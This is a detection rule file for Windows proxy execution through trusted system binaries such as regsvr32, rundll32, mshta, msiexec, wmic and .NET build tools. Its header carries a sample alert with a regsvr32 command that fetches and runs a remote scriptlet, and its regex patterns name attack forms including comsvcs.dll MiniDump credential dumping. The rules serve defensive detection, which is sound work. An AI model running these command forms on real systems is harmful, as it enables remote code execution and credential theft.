// ringside: title="Windows' own program runs somebody else's code" technique=T1218.005,T1218.007,T1218.010,T1218.011,T1127.001 level=high tags=windows,evasion
//
// regsvr32, rundll32, mshta, msiexec and the build tools of .NET run code that they are given, under a name that allow lists trust.
//
//     > ringside run lolbin-proxy.js -o line
//     time=2026-05-05T09:20:10.610000000Z level=high rule=lolbin-proxy message="CORP\\ada: regsvr32 /s /n /u /i:http://198.51.100.23/f.sct scrobj.dll"
//
// Known false positives: msiexec with an address, where software is rolled out from a web server of one's own: leave out its name; developers' msbuild
// is only reported when Office or a script host starts it.
// References: https://attack.mitre.org/techniques/T1218/ https://lolbas-project.github.io

import { officePrograms, windowsShells } from "ringside:lists";
import { shorten } from "ringside:text";

const starters = [...officePrograms, "wscript", "cscript", "mshta", "wmiprvse"];
const builders = ["msbuild", "installutil", "regasm", "regsvcs", "csc", "vbc", "jsc"];
const usersFolder = /\\(users\\[^\\]+\\(appdata|downloads|desktop)|users\\public|windows\\temp|programdata|perflogs)\\/i;

/** @type {[string, RegExp][]} */
const commands = [
    ["regsvr32", /\/i:\s*["']?(https?|ftp|\\\\)|\bscrobj\.dll\b/i],
    ["rundll32", /javascript:|vbscript:|mshtml,\s*RunHTMLApplication|advpack\.dll,\s*LaunchINFSection/i],
    ["rundll32", /comsvcs\.dll,?\s*(MiniDump|#24)/i],
    // A library on another machine, or a file that does not say that it is one.
    ["rundll32", /\s["']?\\\\[\w.-]+\\[^,]*,/i],
    ["rundll32", /\\(users\\[^\\]+\\(appdata|downloads|desktop)|users\\public|windows\\temp|perflogs)\\[^,]*(?<!\.(dll|cpl|ocx)["']?),/i],
    ["mshta", /javascript:|vbscript:|https?:/i],
    ["msiexec", /[-/](q|quiet|qn)\b.*[-/]i\s*["']?https?:|[-/]i\s*["']?https?:.*[-/](q|quiet|qn)\b/i],
    ["wmic", /\/format:\s*["']?(https?:|\\\\|[A-Z]:\\)/i],
    ["cmstp", /[-/](s|ni|au)\b.*\.inf\b/i],
];

for (const [program, command] of commands) {
    procs.where(os == "windows" && name == program && cmdline.matches(command)).alert((e) => `${e.user}: ${shorten(e.cmdline)}`);
}

procs
    .where(
        os == "windows" &&
            name.in(builders) &&
            (parent.in(starters) ||
                (parent.in(windowsShells) && cmdline.matches(usersFolder) && cmdline.matches(/\.(xml|txt|jpg|png|tmp)\b/i))),
    )
    .alert((e) => `${e.user}: ${shorten(e.cmdline)}`);
